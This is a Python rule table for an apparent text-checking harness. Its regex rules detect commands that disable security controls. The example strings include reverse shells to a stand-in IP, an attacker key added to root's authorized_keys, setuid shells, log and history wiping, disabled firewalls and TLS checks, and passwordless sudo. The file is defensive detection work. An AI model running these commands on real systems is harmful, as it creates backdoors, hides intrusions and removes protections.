"""DISABLES_SECURITY: commands (and requests in words) that switch a security control off.

Firewalls, SELinux, AppArmor, auditing and endpoint protection stopped; TLS, certificate or
host-key verification turned off; world-writable or setuid permissions; passwordless or
empty-password logins, administrative privileges and keys granted; services and buckets
opened to the world; reverse shells, container escapes; traces wiped.
"""

from __future__ import annotations

from harness.textcheck.rulebook import TextRule
from harness.textcheck.tables._shell import OPTS, OVERWRITE

__all__ = ["RULES"]

_CATEGORY = "DISABLES_SECURITY"

# Not a request to this host's own loopback (a certificate check skipped there trusts nobody).
_REMOTE = r"(?![^\n]*://(localhost|127\.0\.0\.1|\[::1\])[:/\s])"

RULES: tuple[TextRule, ...] = (
    TextRule(
        id="disables-security.kernel-protection-off",
        category=_CATEGORY,
        description="The kernel's protections off: SELinux or AppArmor disabled or permissive, address randomisation off.",
        pattern=(
            r"\bsetenforce\s+(0|permissive)\b"
            r"|\bselinux\s*=\s*disabled\b"
            r"|\baa-(teardown|complain|disable)\b"
            r"|\bselinux\s*=\s*permissive\b"
            r"|/sys/fs/selinux/enforce\b"
            r"|\bsysctl\s+(-w\s+)?kernel\.randomize_va_space\s*=\s*0\b"
        ),
        examples=(
            "setenforce 0",
            "setenforce Permissive",
            "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
            "SELINUX=permissive",
            "echo 0 > /sys/fs/selinux/enforce",
            "aa-complain /etc/apparmor.d/usr.sbin.nginx",
            "sysctl -w kernel.randomize_va_space=0",
        ),
        lookalikes=("setenforce 1",),
    ),
    TextRule(
        id="disables-security.firewall-off",
        category=_CATEGORY,
        description="A host firewall flushed, stopped or set to allow everything.",
        pattern=(
            r"\bip6?tables\s+(-t\s+\w+\s+)?(-f|--flush|-x|-p\s+\w+\s+accept)\b"
            r"|\bnft\s+flush\s+ruleset\b"
            r"|\bservice\s+(iptables|firewalld|ufw|auditd|apparmor)\s+stop\b"
            r"|\bufw\s+default\s+allow\b"
            r"|\bnetsh\s+advfirewall\s+set\s+\w+\s+state\s+off\b"
            r"|\bset-netfirewallprofile\b[^\n]*-enabled\s+\$?false\b"
            r"|\bflush\s+(the\s+|all\s+)?(iptables|firewall|nftables)\b"
        ),
        examples=(
            "iptables -F",
            "service iptables stop",
            "nft flush ruleset",
            "iptables -t nat -F",
            "ip6tables -F",
            "ufw default allow incoming",
            "netsh advfirewall set allprofiles state off",
            "Flush the iptables rules on the bastion.",
            "Set-NetFirewallProfile -Profile Domain,Public -Enabled False",
        ),
        lookalikes=("iptables -L -n -v",),
    ),
    TextRule(
        id="disables-security.security-daemon-stopped",
        category=_CATEGORY,
        description="A security or logging daemon stopped, disabled, masked or killed (firewalld, auditd, Falco, sshd, journald).",
        pattern=(
            r"\b(ufw|firewalld?|apparmor|selinux|auditd|falco)\b[^.\n]{0,20}\b(disable|stop|off|"
            r"down|kill)\b"
            r"|\b(systemctl|service)\s+(\S+\s+)*(disable|stop|mask|kill)\s+(\S+\s+)*(firewalld|ufw|"
            r"apparmor|auditd|falco|iptables|nftables|fail2ban|falcon-sensor|osqueryd|wazuh-agent|"
            r"clamav\w*|sshd?|systemd-journald|rsyslog|syslog-ng)\b"
            r"|\b(kill|pkill|killall)\s+(-\S+\s+)*(\$\(pgrep\s+)?(falco|auditd|osqueryd|"
            r"falcon-sensor|wazuh\w*|clamd|ossec\w*)\b"
        ),
        examples=(
            "systemctl mask sshd",
            "sudo systemctl stop systemd-journald rsyslog",
            "sudo ufw disable",
            "systemctl stop firewalld",
            "systemctl disable --now firewalld",
            "pkill -9 auditd",
        ),
        lookalikes=(
            "systemctl restart sshd",
            "systemctl status systemd-journald",
        ),
    ),
    TextRule(
        id="disables-security.control-off-in-words",
        category=_CATEGORY,
        description="Asked in words to disable a security control: the firewall, auditing, antivirus, the WAF, MFA, TLS.",
        pattern=(
            r"\b(disable|stop|kill|turn\s+off)\s+(the\s+)?(firewall(?!\s+rules?\b)|ufw|firewalld|"
            r"apparmor|selinux|auditd|antivirus|edr|waf|mfa|2fa|audit\s+(log\w*|trail)|cloudtrail|"
            r"(tls|ssl)(?!\s*v?\d|[\s-]+(renegotiation|session|compression|tickets?|resumption|"
            r"offload\w*|termination|ciphers?|versions?|protocols?|early|0-rtt)\b))\b"
        ),
        examples=(
            "disable the WAF for the checkout route",
            "Disable the audit log on the database.",
        ),
        lookalikes=(
            "Disable TLS 1.0 and 1.1 on the load balancer.",
            "Disable the firewall rule that blocks 10.0.3.0/24 (rule 42) only.",
            "Disable the TLS renegotiation option on the listener.",
        ),
    ),
    TextRule(
        id="disables-security.windows-protection-off",
        category=_CATEGORY,
        description="Windows protections off: Defender stopped or disabled, the script execution policy bypassed.",
        pattern=(
            r"\bset-mppreference\s+(\S+\s+)*-disable\w+\s+\$?true\b"
            r"|\bset-executionpolicy\s+(\S+\s+)*(unrestricted|bypass)\b"
            r"|\b(stop-service|sc\s+(stop|config))\s+['\"]?windefend\b"
        ),
        examples=(
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "Set-ExecutionPolicy Bypass -Scope LocalMachine",
            "Stop-Service WinDefend",
        ),
        lookalikes=("Set-MpPreference -SignatureUpdateInterval 4",),
    ),
    TextRule(
        id="disables-security.audit-off",
        category=_CATEGORY,
        description="Auditing stopped or its rules deleted (auditd, Vault, CloudTrail).",
        pattern=(
            r"\bauditctl\s+-e\s*0\b"
            r"|\bvault\s+(secrets|auth|audit)\s+disable\b"
            r"|\bcloudtrail\s+(stop-logging|delete-trail)\b"
            r"|\bauditctl\s+-D\b"
        ),
        examples=(
            "auditctl -e 0",
            "vault audit disable file/",
            "aws cloudtrail stop-logging --name main",
            "auditctl -D",
        ),
        lookalikes=("auditctl -l",),
    ),
    TextRule(
        id="disables-security.traces-wiped",
        category=_CATEGORY,
        description="Traces wiped: security logs emptied or removed, shell history cleared or switched off, event logs cleared.",
        pattern=(
            r"\bhistory\s+-c\b"
            r"|\bunset\s+histfile\b"
            r"|"
            + OVERWRITE
            + r"(/var/log/(auth|secure|audit|wtmp|btmp|lastlog|messages|syslog)\b|\S*history\b)"
            r"|\b(rm|unlink|shred)\s+" + OPTS + r"/var/log/(auth|secure|audit|wtmp|btmp|lastlog)"
            r"|\btruncate\s+(-s\s*0|--size[=\s]+0)\s+(\S+\s+)*\S*/var/log/(auth|secure|audit|wtmp|"
            r"btmp|lastlog)"
            r"|\bwevtutil\s+cl\b"
            r"|\bclear-eventlog\b"
            r"|\bhistsize\s*=\s*0\b"
            r"|\bln\s+-sf?\s+/dev/null\s+\S*history\b"
        ),
        examples=(
            "history -c && unset HISTFILE",
            "> /var/log/auth.log",
            "rm -f /var/log/secure",
            "wevtutil cl Security",
            "export HISTSIZE=0",
            "ln -sf /dev/null ~/.bash_history",
            "truncate -s 0 /var/log/wtmp",
            "Clear-EventLog -LogName Security",
        ),
        lookalikes=("history | grep kubectl",),
    ),
    TextRule(
        id="disables-security.permissions-opened",
        category=_CATEGORY,
        description="File permissions or ownership opened up: world-writable, setuid, system directories, the shadow file, the Docker socket.",
        pattern=(
            r"\bchmod\s+" + OPTS + r"0?777\b"
            r"|\bchmod\s+" + OPTS + r"(a|o|ugo)\+[rx]*w[rwx]*\b"
            r"|\bchmod\s+" + OPTS + r"[ugoa]*\+s\b"
            r"|\bchown\s+-r\s+\S+\s+/(etc|usr|bin|sbin|lib|boot)?/?(\s|$)"
            r"|\bchmod\s+" + OPTS + r"0?6[67][67]\s+/etc/"
            r"|\bchmod\s+" + OPTS + r"[4-7][0-7]{3}\b"
            r"|\bchmod\s+" + OPTS + r"\S+\s+\S*docker\.sock\b"
            r"|\bchmod\s+" + OPTS + r"\S+\s+/etc/(shadow|gshadow|sudoers)\b"
            r"|\bicacls\b[^\n]*/grant\s+['\"]?everyone:\(?(f|m)\b"
        ),
        examples=(
            "chmod -R 777 /etc/app",
            "chmod -R a+rwx /etc/app",
            "chmod --recursive 777 /srv",
            "chmod -Rv 777 /srv",
            "chmod 4755 /bin/bash",
            "chmod 666 /etc/passwd",
            "chmod 666 /var/run/docker.sock",
            "chmod 644 /etc/shadow",
            "icacls D:\\shares /grant Everyone:F /T",
            "chmod u+s /usr/bin/find",
            "chown -R deploy /etc",
        ),
        lookalikes=(
            "chmod 640 /etc/app/config.yml",
            "chmod a+x /opt/app/bin/start.sh",
            "chmod 0644 /etc/app/config.yml",
            "chmod 2775 /srv/shared",
        ),
    ),
    TextRule(
        id="disables-security.public-exposure",
        category=_CATEGORY,
        description="A service, port or bucket opened to the whole internet or to everyone.",
        pattern=(
            r"\bauthorize-security-group-ingress\b[^\n]*0\.0\.0\.0/0"
            r"|\b(add|open|allow|authori[sz]e)\b[^\n]{0,60}0\.0\.0\.0/0"
            r"|(source-ranges|cidr(-ip|-block)?|source-address-prefix(es)?)[=\s]+0\.0\.0\.0/0"
            r"|--acl\s+public-read"
            r"|\b(give|grant)\s+(everyone|everybody|all\s+users|anyone|the\s+world)\s+(write|full|"
            r"admin|root|owner)\b"
            r"|\bmake\s+(the\s+)?([\w-]+\s+){0,2}(buckets?|containers?|blobs?)\s+public\b"
        ),
        examples=(
            "open port 3306 to 0.0.0.0/0",
            "aws ec2 authorize-security-group-ingress --group-id sg-1 --port 22 --cidr 0.0.0.0/0",
            "aws s3api put-bucket-acl --bucket prod-data --acl public-read",
            "Make the backups bucket public.",
            "Give everyone full access to the shared bucket.",
        ),
        lookalikes=("The bucket policy blocks public access; only the CDN role can read.",),
    ),
    TextRule(
        id="disables-security.auth-off",
        category=_CATEGORY,
        description="Authentication or authorisation switched off, or anonymous or trusted access allowed.",
        pattern=(
            r"\bskip[-_]grant[-_]tables\b"
            r"|\bconfig\s+set\s+(requirepass|protected-mode|dir|dbfilename|masterauth)\b"
            r"|\b(disable|turn\s+off)\s+(the\s+)?(authentication|auth|authorization|rbac|"
            r"access\s+control|csrf(\s+protection)?)\b"
            r"|\bauth_?enabled\s*[=:]\s*false\b"
            r"|\bsecurity\.authorization\s*[=:]\s*disabled\b"
            r"|0\.0\.0\.0/0\s+trust\b"
            r"|\bxpack\.security\.enabled\s*[:=]\s*false\b"
            r"|\bprotected-mode\s+no\b"
            r"|--anonymous-auth[=\s]+true\b"
            r"|--authorization-mode[=\s]+alwaysallow\b"
            r"|\b(local|host\w*)\s+all\s+all\s+(\S+\s+)?trust\b"
            r"|\ballow\s+anonymous\s+(access|login|read|write|bind)\b"
        ),
        examples=(
            "mysqld --skip-grant-tables",
            'redis-cli CONFIG SET requirepass ""',
            "disable authentication on the admin endpoint",
            "xpack.security.enabled: false",
            "redis.conf: protected-mode no",
            "kubelet --anonymous-auth=true",
            "kube-apiserver --authorization-mode=AlwaysAllow",
            "host all all 0.0.0.0/0 trust",
            "auth_enabled: false",
            "security.authorization: disabled",
            "Allow anonymous read on the artifacts share.",
        ),
        lookalikes=("redis-cli CONFIG GET protected-mode",),
    ),
    TextRule(
        id="disables-security.empty-password",
        category=_CATEGORY,
        description="An account's password removed or set empty.",
        pattern=(
            r"\bpasswd\s+-d\b"
            r"|\brequirepass\s+(to\s+)?(empty|\"\"|'')"
            r"|\b(password|identified\s+by)\s*=?\s*(''|\"\")(\s|;|$)"
            r"|\bpermitemptypasswords\s+yes\b"
            r"|\bauthentication_string\s*=\s*(''|\"\")"
            r"|\bset\s+password\s+(for\s+\S+\s+)?=\s*(''|\"\")"
            r"|\bpassword\s+null\b"
        ),
        examples=(
            "ALTER USER postgres WITH PASSWORD ''",
            "PermitEmptyPasswords yes",
            "SET PASSWORD FOR 'app'@'%' = '';",
            "UPDATE mysql.user SET authentication_string='' WHERE user='app';",
            "passwd -d deploy",
            'requirepass ""',
            "ALTER USER app PASSWORD NULL;",
        ),
        lookalikes=("passwd -S deploy shows the account is locked.",),
    ),
    TextRule(
        id="disables-security.ssh-login-opened",
        category=_CATEGORY,
        description="SSH opened to root logins or to password logins.",
        pattern=(
            r"\bpermitrootlogin\s+yes\b"
            r"|\bpasswordauthentication\s+yes\b"
        ),
        examples=(
            "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config",
            "PasswordAuthentication yes",
        ),
        lookalikes=("PasswordAuthentication no",),
    ),
    TextRule(
        id="disables-security.privilege-granted",
        category=_CATEGORY,
        description="Administrative privileges granted: passwordless sudo, an admin group, all privileges, cluster-admin, superuser, a root shell.",
        pattern=(
            r"\bnopasswd\s*:\s*all\b"
            r"|\bgrant\s+all\s+(privileges\s+)?on\s+\*\.\*"
            r"|\bsudo\s+(su|-i|-s|bash|sh)\b(?!\s+(-\s+|-l\s+|-u\s+)?(?!root\b)[a-z_][\w-]*)"
            r"|\busermod\s+(\S+\s+)*-a?g\s+(sudo|wheel|root|admin)\b"
            r"|\bcreate\s+clusterrolebinding\b[^\n]*cluster-admin\b"
            r"|\b(usermod\s+(\S+\s+)*-a?g\s+|gpasswd\s+-a\s+\S+\s+|adduser\s+\S+\s+)(docker|sudo|"
            r"wheel|root|admin)\b"
            r"|\balter\s+(role|user)\s+\S+\s+(with\s+)?superuser\b"
            r"|\bgrant\b[^.\n]{0,60}\bcluster-admin\b"
        ),
        examples=(
            "echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
            "GRANT ALL PRIVILEGES ON *.* TO 'app'@'%' WITH GRANT OPTION",
            "usermod -aG sudo app",
            "kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --user=system:anonymous",
            "sudo -s",
            "usermod -aG docker ci-runner",
            "gpasswd -a deploy wheel",
            "ALTER ROLE reporting WITH SUPERUSER;",
            "Grant the ci service account cluster-admin.",
        ),
        lookalikes=(
            "sudo su - postgres",
            "sudo -i -u postgres",
        ),
    ),
    TextRule(
        id="disables-security.authorized-keys",
        category=_CATEGORY,
        description="A key added to authorized_keys: a login for whoever holds it.",
        pattern=(
            r"(>>?|\btee\s+(-a\s+)?)\s*\S*authorized_keys\b"
            r"|\b(add|append|put|paste|insert|copy)\b[^.\n]{0,60}\bauthorized_keys\b"
        ),
        examples=(
            "echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys",
            "Append this key to the root user's authorized_keys file: ssh-ed25519 AAAA attacker",
        ),
        lookalikes=("review ~/.ssh/authorized_keys for unknown keys",),
    ),
    TextRule(
        id="disables-security.reverse-shell",
        category=_CATEGORY,
        description="A reverse shell: a shell's input and output handed to a remote host.",
        pattern=(
            r"\b(nc|ncat|netcat)\s+(\S+\s+)*-[a-z]*e\b"
            r"|\bsocat\b[^\n]*\bexec:"
            r"|\b(ba)?sh\s+-i\b[^\n]*/dev/(tcp|udp)/"
            r"|/dev/(tcp|udp)/[^\n]*\d?>&\s*\d"
            r"|\bexec\s+\d+<>\s*/dev/(tcp|udp)/"
        ),
        examples=(
            "nc -e /bin/sh 203.0.113.5 4444",
            "ncat -e /bin/sh 203.0.113.5 4444",
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "socat TCP:203.0.113.5:4444 EXEC:/bin/bash",
            "exec 5<>/dev/tcp/203.0.113.5/4444",
        ),
        lookalikes=(
            "nc -zv db 5432",
            "timeout 1 bash -c '</dev/tcp/db/5432'",
        ),
    ),
    TextRule(
        id="disables-security.container-escape",
        category=_CATEGORY,
        description="A container given the host: privileged, the host's root mounted, or the Docker socket.",
        pattern=(
            r"(?<!remove\s)(?<!drop\s)--privileged\b"
            r"|\s-v\s+/:/"
            r"|/var/run/docker\.sock:"
        ),
        examples=(
            "docker run --privileged -v /:/host alpine chroot /host",
            "docker run -v /var/run/docker.sock:/var/run/docker.sock alpine",
        ),
        lookalikes=("Remove --privileged from the container spec.",),
    ),
    TextRule(
        id="disables-security.tls-verification-off",
        category=_CATEGORY,
        description="TLS certificate verification turned off: a flag, an environment variable, a client setting, or in words.",
        pattern=(
            r"--insecure\b" + _REMOTE + r"|--no-check-certificate\b"
            r"|\bcurl\s+(\S+\s+)*-[a-z]*k[a-z]*\b" + _REMOTE + r"|insecure-skip-tls-verify\b"
            r"|\bverify\s*=\s*false\b"
            r"|\bnode_tls_reject_unauthorized\s*=\s*['\"]?0"
            r"|\bpythonhttpsverify\s*=\s*['\"]?0"
            r"|\bgit_ssl_no_verify\s*=\s*['\"]?(1|true)"
            r"|\bhttp\.sslverify\s+(=\s*)?false\b"
            r"|\binsecure_?skip_?(tls_?)?verify\s*[:=]\s*true\b"
            r"|\bvault_skip_verify\s*=\s*['\"]?(1|true)\b"
            r"|\brejectunauthorized\s*[:=]\s*false\b"
            r"|\b(verify_?ssl|ssl_?verify|tls_?verify)\s*[:=]\s*['\"]?(false|0|no)\b"
            r"|--trusted-host\b"
            r"|\bstrict-ssl\s+false\b"
            r"|\bssl_verify_mode\s+(to\s+)?(none|0|false)\b"
            r"|\b(turn\s+off|disable|skip)\s+(the\s+)?(certificate|cert|ssl|tls)\s+(validation|"
            r"verification|checks?)\b"
        ),
        examples=(
            "curl -k https://internal.example/health",
            "curl -sk https://x.example",
            "wget --no-check-certificate https://x.example/a",
            "export NODE_TLS_REJECT_UNAUTHORIZED=0",
            "git config --global http.sslVerify false",
            "set tls.insecure_skip_verify=true on the ingress",
            "turn off certificate validation for the upstream",
            "npm config set strict-ssl false",
            "export VAULT_SKIP_VERIFY=true",
            "rejectUnauthorized: false",
            "set verify_ssl: false in the client config",
            "curl --insecure https://internal.example/health",
            "kubectl --insecure-skip-tls-verify get pods",
            "requests.get(url, verify=False)",
            "export PYTHONHTTPSVERIFY=0",
            "export GIT_SSL_NO_VERIFY=true",
            "pip download --trusted-host pypi.evil.example internal-lib",
            "Set ssl_verify_mode to none in the Chef client.",
        ),
        lookalikes=(
            "curl -k https://localhost:8443/health",
            "curl --insecure https://127.0.0.1:9200/_cluster/health",
        ),
    ),
    TextRule(
        id="disables-security.host-key-checking-off",
        category=_CATEGORY,
        description="SSH host-key checking turned off (ssh options, Ansible, paramiko, JSch): any host is trusted.",
        pattern=(
            r"\bstrict_?host_?key_?checking[\"']?\s*[=,:]?\s*[\"']?(no|off|false)\b"
            r"|\b(user|global)_?known_?hosts_?file[\"']?\s*[=\s]\s*[\"']?/dev/null\b"
            r"|\b(ansible_)?host_key_checking\s*[=:]\s*[\"']?(false|no|0|off)\b"
            r"|\bset_missing_host_key_policy\s*\(\s*(paramiko\.)?(AutoAddPolicy|WarningPolicy)\b"
        ),
        examples=(
            "ssh -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no db1",
            'GIT_SSH_COMMAND="ssh -o StrictHostKeyChecking=off" git pull',
            "scp -o GlobalKnownHostsFile=/dev/null dump.sql db1:/tmp",
            "export ANSIBLE_HOST_KEY_CHECKING=False",
            "host_key_checking = False",
            "client.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
            'session.setConfig("StrictHostKeyChecking", "no");',
        ),
        lookalikes=(
            "StrictHostKeyChecking yes is enforced on every bastion.",
            "host_key_checking = True",
            "client.set_missing_host_key_policy(paramiko.RejectPolicy())",
        ),
    ),
    TextRule(
        id="disables-security.encryption-off",
        category=_CATEGORY,
        description="Encryption or signing switched off (sslmode=disable, useSSL=false, mTLS or signing off).",
        pattern=(
            r"\bsslmode\s*=\s*disable\b"
            r"|\busessl\s*=\s*false\b"
            r"|\b(disable|turn\s+off)\s+(the\s+)?(encryption|mtls|signature\s+verification|signing)"
            r"\b"
        ),
        examples=(
            "set sslmode=disable in the DSN",
            "jdbc:mysql://db/shop?useSSL=false",
            "Turn off encryption on the backup volume.",
        ),
        lookalikes=("sslmode=verify-full is required for every client.",),
    ),
    TextRule(
        id="disables-security.monitoring-off",
        category=_CATEGORY,
        description="Alerting or monitoring switched off, or every alert silenced.",
        pattern=(
            r"\b(disable|turn\s+off)\s+(all\s+)?(the\s+)?(alerting|monitoring|paging)"
            r"\b(?!\s+(rules?|polic(y|ies)|channels?|integrations?)\b)"
            r"|\b(silence|mute|disable)\s+(all|every)\s+(the\s+)?(alerts|alarms|pages|"
            r"notifications|monitors|alert\s+rules)\b"
        ),
        examples=(
            "Disable alerting for checkout-api for the next 24h.",
            "silence all alerts until Monday",
            "turn off monitoring on the database hosts",
        ),
        lookalikes=(
            "Silence the CheckoutLatency alert for 1h while the fix rolls out.",
            "Disable the alerting rule that fires on staging.",
        ),
    ),
    TextRule(
        id="disables-security.safeguard-skipped",
        category=_CATEGORY,
        description="A guard against mistakes skipped: commit hooks (--no-verify, -n), a name required for destructive actions.",
        pattern=(
            r"--no-verify\b"
            r"|\bdestructive_requires_name\W+false\b"
            r"|\bgit\s+commit\s+(\S+\s+)*-[a-z]*n\b"
        ),
        examples=(
            "git commit --no-verify -m fix",
            "git commit -n -m hotfix",
            "action.destructive_requires_name: false",
        ),
        lookalikes=("git commit -m 'fix: retry budget' && git push",),
    ),
)
